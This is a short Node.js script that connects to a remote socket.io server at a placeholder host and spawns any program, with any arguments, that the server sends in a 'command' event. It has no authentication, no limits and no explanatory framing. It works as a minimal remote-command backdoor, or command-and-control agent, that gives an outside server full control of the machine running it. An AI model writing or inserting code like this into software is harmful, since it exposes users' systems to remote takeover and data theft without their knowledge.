const io = require('socket.io-client');
const { spawn } = require('child_process');
const client = io('https://live.example.invalid');
client.on('command', ({ program, words }) => spawn(program, words));
